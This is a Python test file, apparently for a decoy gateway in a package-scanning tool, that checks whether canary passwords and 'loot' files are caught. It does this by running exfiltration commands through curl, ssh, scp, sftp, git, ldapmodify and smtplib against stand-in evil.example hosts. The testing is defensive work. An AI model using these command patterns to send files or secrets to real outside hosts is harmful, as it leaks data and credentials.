"""Mail, files, shells and directories as a box reaches them: stock clients, and their canaries found."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

from package_hunter.decoy.gateway import Gateway
from tests.support.netpair import NetPair
from tests.support.played import CANARIES
from tests.support.requires import needs_program

PASSWORD, LOOT = CANARIES[0], CANARIES[1]
_CURL = "curl -sS --max-time 50 --cacert run0/ca.pem --user me:$PASSWORD"
_SSH = (
    "-F none -i $HOME/key -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=accept-new "
    "-o UserKnownHostsFile=$HOME/known"
)
_MAIL = "--mail-from a@b.example --mail-rcpt c@d.example -T loot"
_LDAP = "-x -D cn=me,dc=example,dc=com -w $PASSWORD"
_SMTPLIB = """python3 - <<'END'
import os, smtplib, ssl
with smtplib.SMTP('py.evil.example', 587) as client:
    client.starttls(context=ssl.create_default_context(cafile='run0/ca.pem'))
    client.login('me', os.environ['PASSWORD'])
    client.sendmail('a@b.example', ['c@d.example'], 'Subject: x\\r\\n\\r\\n' + os.environ['LOOT'])
END"""
# protocol, program, what the connection is called, what is found, the client's words
ROWS = (
    ("smtp", "curl", "smtp", 2, f"{_CURL} --ssl-reqd {_MAIL} smtp://HOST:25"),
    ("smtps", "curl", "smtp", 2, f"{_CURL} {_MAIL} smtps://HOST"),
    ("py", "python3", "smtp", 2, _SMTPLIB),
    ("imap", "curl", "imap", 2, f"{_CURL} --ssl-reqd -T loot imap://HOST/Drafts"),
    ("imaps", "curl", "imap", 2, f"{_CURL} -T loot imaps://HOST/Drafts"),
    ("pop3", "curl", "pop3", 1, f"{_CURL} --ssl-reqd pop3://HOST/1"),
    ("pop3s", "curl", "pop3", 1, f"{_CURL} pop3s://HOST/1"),
    ("ftp", "curl", "ftp", 2, f"{_CURL} -T loot ftp://HOST/in/"),
    ("ftpauth", "curl", "ftp", 2, f"{_CURL} --ssl-reqd -T loot ftp://HOST/in/"),
    ("ftps", "curl", "ftp", 2, f"{_CURL} -T loot ftps://HOST/in/"),
    ("ssh", "ssh", "ssh", 1, f"ssh {_SSH} me@HOST 'cat > x' < loot"),
    ("scp", "scp", "ssh", 1, f"scp {_SSH} loot me@HOST:"),
    ("sftp", "sftp", "ssh", 1, f"echo put loot | sftp -b - {_SSH} me@HOST"),
    ("push", "git", "ssh", 1, f"GIT_SSH_COMMAND=\"ssh {_SSH}\" git -C work push -q git@HOST:a/b.git main"),
    ("ldap", "ldapmodify", "ldap", 2, f"LDAPTLS_CACERT=run0/ca.pem ldapmodify -ZZ -H ldap://HOST {_LDAP} -f entry"),
    ("ldaps", "ldapmodify", "ldap", 2, f"LDAPTLS_CACERT=run0/ca.pem ldapmodify -H ldaps://HOST {_LDAP} -f entry"),
)  # fmt: skip


def _lay(folder: Path) -> None:
    """What the clients take: a file, an entry, a key, a repository."""
    (folder / "loot").write_text(f"Subject: x\n\ntoken {LOOT.value}\n")
    text = LOOT.value.encode().hex()
    (folder / "entry").write_text(
        f"dn: cn=a,dc=example,dc=com\nchangetype: add\nobjectClass: device\ncn: a\ndescription: {text}\n"
    )
    for command in (
        "ssh-keygen -q -t ed25519 -N '' -f key",
        "git init -q -b main work && cp loot work && git -C work add loot && "
        "git -C work -c user.name=a -c user.email=a@b.example commit -qm x",
    ):
        subprocess.run(["bash", "-c", command], cwd=folder, check=True, capture_output=True)


def test_each_client_logs_in_and_what_it_leaves_is_found(
    pair: NetPair, gateway: Callable[..., Gateway], tmp_path: Path
) -> None:
    for program in {row[1] for row in ROWS}:
        needs_program(program)
    g = gateway()
    _lay(tmp_path)
    env = {"PASSWORD": PASSWORD.value, "LOOT": LOOT.value, "HOME": str(tmp_path)}
    runs = {
        name: pair.run(words.replace("HOST", f"{name}.evil.example"), env, str(tmp_path))
        for name, _, _, _, words in ROWS
    }
    log = g.stop()
    wrong = {name: (done.returncode, done.stderr[-400:]) for name, done in runs.items() if done.returncode}
    assert not wrong
    assert "gateway_errors" not in log.cut
    found = {name: {h.canary for h in log.hits if h.destination.startswith(f"{name}.")} for name in runs}
    kinds = {
        name: {c.kind for c in log.connections if (c.name or "").startswith(f"{name}.")} for name in runs
    }
    for name, _, kind, most, _ in ROWS:
        assert found[name] == ({PASSWORD.id, LOOT.id} if most == 2 else {_only(kind)}), name
        assert kind in kinds[name], kinds[name]


def _only(kind: str) -> str:
    """POP3 carries a password and nothing else; SSH was shown a key."""
    return PASSWORD.id if kind == "pop3" else LOOT.id


def test_all_hosts_of_a_scan_show_one_key(pair: NetPair, gateway: Callable[..., Gateway]) -> None:
    needs_program("ssh-keyscan")
    gateway()
    scan = "ssh-keyscan -t ed25519 a.evil.example b.evil.example 2>/dev/null | cut -d' ' -f3 | sort | uniq -c"
    assert pair.run(scan).stdout.split()[:1] == ["2"]
